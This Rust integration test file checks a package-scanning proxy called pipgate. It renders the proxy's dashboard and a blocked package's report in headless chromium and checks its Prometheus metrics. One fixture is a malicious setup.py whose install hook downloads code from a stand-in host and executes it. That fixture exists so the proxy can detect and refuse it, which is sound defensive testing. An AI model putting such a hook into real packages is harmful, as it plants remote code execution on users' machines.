//! The dashboard and a blocked package's report in a real browser (headless Debian
//! `chromium`, which `scripts/test.sh` installs when missing), and `/metrics` scraped after
//! real installs and read with a Prometheus text parser.
//!
//! The browser tests fail on CI when chromium is missing; elsewhere they are skipped with a
//! loud message. Screenshots are written to `$CARGO_TARGET_TMPDIR/browser/` to look at.

mod common;
use common::*;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// A setup.py that overrides `install` to download and run code (never executed here).
const HOOK_SETUP_PY: &str = r#"import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        exec(urllib.request.urlopen("http://203.0.113.7/stage2.py").read())
        install.run(self)


setup(name="demo-evil", version="1.0", cmdclass={"install": PostInstall})
"#;

fn repo_policy() -> String {
    std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.yaml")).unwrap()
}

/// The headless browser, or `None` (after a loud message) where it may be missing.
fn chromium() -> Option<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let found = ["chromium", "chromium-browser", "google-chrome"]
        .iter()
        .flat_map(|name| std::env::split_paths(&path).map(move |d| d.join(name)))
        .find(|p| p.is_file());
    if found.is_none() {
        assert!(
            std::env::var_os("CI").is_none(),
            "chromium is not installed: on CI the browser test must run (scripts/test.sh installs it with apt-get)"
        );
        eprintln!("\n*** SKIPPED: no chromium on PATH; install it (apt-get install -y chromium) to run the browser test ***\n");
    }
    found
}

/// Run headless chromium on `url` with `args` (`--dump-dom`, `--screenshot=…`), bounded in
/// time; its standard output.
fn browse(browser: &Path, profile: &Path, args: &[&str], url: &str) -> String {
    let mut child = Command::new(browser)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"])
        .args(["--disable-extensions", "--disable-background-networking", "--window-size=1280,1400"])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(args)
        .arg(url)
        .env("NO_PROXY", "*")
        .env_remove("HTTP_PROXY")
        .env_remove("HTTPS_PROXY")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start chromium");
    let deadline = Instant::now() + Duration::from_secs(90);
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("chromium did not finish with {url} in 90 s");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "chromium failed on {url}: {}", show(&out));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The `<tr>…</tr>` elements of a DOM whose opening tag contains `class`.
fn rows<'a>(dom: &'a str, class: &str) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut rest = dom;
    while let Some(at) = rest.find("<tr") {
        let row = &rest[at..];
        let end = row.find("</tr>").map_or(row.len(), |e| e + 5);
        let open = &row[..row.find('>').unwrap_or(0)];
        if open.contains(class) {
            out.push(&row[..end]);
        }
        rest = &row[end..];
    }
    out
}

/// Poll `url` until its body contains `needle` (the index is written in the background).
fn wait_for_text(url: &str, needle: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let body = http().get(url).send().and_then(reqwest::blocking::Response::text).unwrap_or_default();
        if body.contains(needle) {
            return body;
        }
        assert!(Instant::now() < deadline, "{url} never showed {needle:?}:\n{body}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

struct Run {
    _idx: FakeIndex,
    gate: Pipgate,
    dir: tempfile::TempDir,
    evil_sha: String,
}

/// A real run: a malicious sdist refused to pip, a benign wheel installed.
fn real_run() -> Run {
    let idx = FakeIndex::start(Format::Json);
    let evil = sdist("demo-evil", "1.0", &[("setup.py", HOOK_SETUP_PY)]);
    let evil_sha = sha256_hex(&evil.bytes);
    idx.add_dist("demo-evil", evil);
    idx.add_dist("demo-good", wheel("demo-good", "2.0", &[], &[]));
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, repo_policy()).unwrap();
    let gate = Pipgate::start_with(&idx.url(), &policy, &dir.path().join("data"));
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-evil==1.0"]);
    assert!(!out.status.success(), "the malicious sdist must be refused: {}", show(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("403"), "{}", show(&out));
    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-good"]);
    assert!(out.status.success(), "{}", show(&out));
    Run { _idx: idx, gate, dir, evil_sha }
}

fn screenshots() -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("browser");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

#[test]
fn the_dashboard_and_a_blocked_packages_report_render_in_chromium() {
    let Some(browser) = chromium() else { return };
    let run = real_run();
    let base = run.gate.base();
    wait_for_text(&format!("{base}/-/"), "demo-evil");
    let profile = tempfile::tempdir().unwrap();
    let shots = screenshots();

    // The dashboard: the blocked row names the project and links to its report.
    let dom = browse(&browser, profile.path(), &["--dump-dom"], &format!("{base}/-/"));
    let blocked = rows(&dom, "row-block");
    let evil_row = blocked.iter().find(|r| r.contains("demo-evil")).unwrap_or_else(|| panic!("no blocked row:\n{dom}"));
    assert!(evil_row.contains(&format!("href=\"/reports/{}\"", run.evil_sha)), "{evil_row}");
    assert!(evil_row.contains("execution.install-hook"), "the row names the finding: {evil_row}");
    assert!(
        rows(&dom, "row-serve").iter().any(|r| r.contains("demo-good")),
        "the served install is listed too:\n{dom}"
    );
    assert!(dom.contains("Decisions per hour") && dom.contains("class=\"seg-block\""), "the chart has a block");
    assert!(dom.contains("Top findings") && dom.contains("Cooldown holds in force") && dom.contains("Artifact cache"));

    // The outcome filter: only blocked rows.
    let dom = browse(&browser, profile.path(), &["--dump-dom"], &format!("{base}/-/?outcome=blocked"));
    assert!(rows(&dom, "row-block").iter().any(|r| r.contains("demo-evil")), "{dom}");
    assert!(rows(&dom, "row-serve").is_empty(), "a blocked filter shows no served row:\n{dom}");

    let shot = shots.join("dashboard.png");
    browse(&browser, profile.path(), &[&format!("--screenshot={}", shot.display())], &format!("{base}/-/"));
    let png = std::fs::read(&shot).expect("a screenshot of the dashboard");
    assert!(png.starts_with(b"\x89PNG") && png.len() > 10_000, "a real image ({} bytes)", png.len());

    // The report the block links to: project, version, file and the finding id (the text
    // report names the file rather than its sha256, which its URL carries).
    let report_url = format!("{base}/reports/{}", run.evil_sha);
    let dom = browse(&browser, profile.path(), &["--dump-dom"], &report_url);
    for (case, needle) in [
        ("project", "demo-evil"),
        ("version", "1.0"),
        ("file", "demo-evil-1.0.tar.gz"),
        ("finding id", "execution.install-hook"),
    ] {
        assert!(dom.contains(needle), "the report shows the {case} ({needle}):\n{dom}");
    }
    let shot = shots.join("report.png");
    browse(&browser, profile.path(), &[&format!("--screenshot={}", shot.display())], &report_url);
    assert!(std::fs::read(&shot).expect("a screenshot of the report").starts_with(b"\x89PNG"));
}

#[test]
fn metrics_count_requests_scans_and_verdicts_of_real_installs() {
    let run = real_run();
    let resp = http().get(format!("{}/metrics", run.gate.base())).send().unwrap();
    assert_eq!(resp.status(), 200);
    let content_type = resp.headers()["content-type"].to_str().unwrap().to_string();
    assert!(content_type.starts_with("application/openmetrics-text"), "{content_type}");
    let text = resp.text().unwrap();
    let scrape = prometheus_parse::Scrape::parse(text.lines().map(|l| Ok(l.to_string()))).unwrap();
    // (what, metric, labels, at least)
    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)], f64);
    let cases: [Case; 9] = [
        ("a block counted", "pipgate_verdicts_total", &[("outcome", "block")], 1.0),
        ("a serve counted", "pipgate_verdicts_total", &[("outcome", "serve")], 1.0),
        ("both artifacts scanned", "pipgate_scan_duration_seconds_count", &[], 2.0),
        ("scanned bytes", "pipgate_scanned_bytes_total", &[], 1.0),
        ("the finding by detector", "pipgate_findings_total", &[("detector", "execution.install-hook")], 1.0),
        ("project pages answered", "pipgate_http_requests_total", &[("route", "project"), ("status", "200")], 2.0),
        ("the refused file", "pipgate_http_requests_total", &[("route", "file"), ("status", "403")], 1.0),
        (
            "artifacts fetched from the upstream",
            "pipgate_cache_requests_total",
            &[("cache", "artifact"), ("result", "miss")],
            2.0,
        ),
        ("upstream latency observed", "pipgate_upstream_response_seconds_count", &[("kind", "file")], 2.0),
    ];
    for (case, metric, labels, at_least) in cases {
        let v = sample_sum(&scrape, metric, labels);
        assert!(v >= at_least, "{case}: {metric}{labels:?} = {v}, expected at least {at_least}\n{text}");
    }
    let histogram = scrape.samples.iter().find(|s| s.metric == "pipgate_scan_duration_seconds");
    assert!(
        matches!(histogram.map(|s| &s.value), Some(prometheus_parse::Value::Histogram(b)) if !b.is_empty()),
        "the scan duration is a histogram with buckets"
    );
    for zero in ["pipgate_audit_write_failures_total", "pipgate_audit_index_write_failures_total"] {
        assert_eq!(sample_sum(&scrape, zero, &[]), 0.0, "{zero}");
        assert!(scrape.docs.contains_key(zero.trim_end_matches("_total")), "{zero} is exposed even at zero");
    }
    // Policy reloads: an edit that loads counts as ok, a broken file as failed.
    let policy = run.dir.path().join("policy.yaml");
    std::fs::write(&policy, format!("{}\n# edited\n", repo_policy())).unwrap();
    wait_for_log(&run.gate, "policy reloaded");
    std::fs::write(&policy, "rules: [ { id: broken, action: explode } ]\n").unwrap();
    wait_for_log(&run.gate, "REFUSED");
    // The first scrape is counted on the next one.
    let (text, scrape) = common::scrape(&run.gate.base());
    let cases: [Case; 3] = [
        ("the scrape", "pipgate_http_requests_total", &[("route", "metrics"), ("status", "200")], 1.0),
        ("a reload", "pipgate_policy_reloads_total", &[("result", "ok")], 1.0),
        ("a refused reload", "pipgate_policy_reloads_total", &[("result", "failed")], 1.0),
    ];
    for (case, metric, labels, at_least) in cases {
        let v = sample_sum(&scrape, metric, labels);
        assert!(v >= at_least, "{case}: {metric}{labels:?} = {v}, expected at least {at_least}\n{text}");
    }
}

fn wait_for_log(gate: &Pipgate, needle: &str) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while !gate.log().contains(needle) {
        assert!(Instant::now() < deadline, "the log never said {needle:?}:\n{}", gate.log());
        std::thread::sleep(Duration::from_millis(100));
    }
}
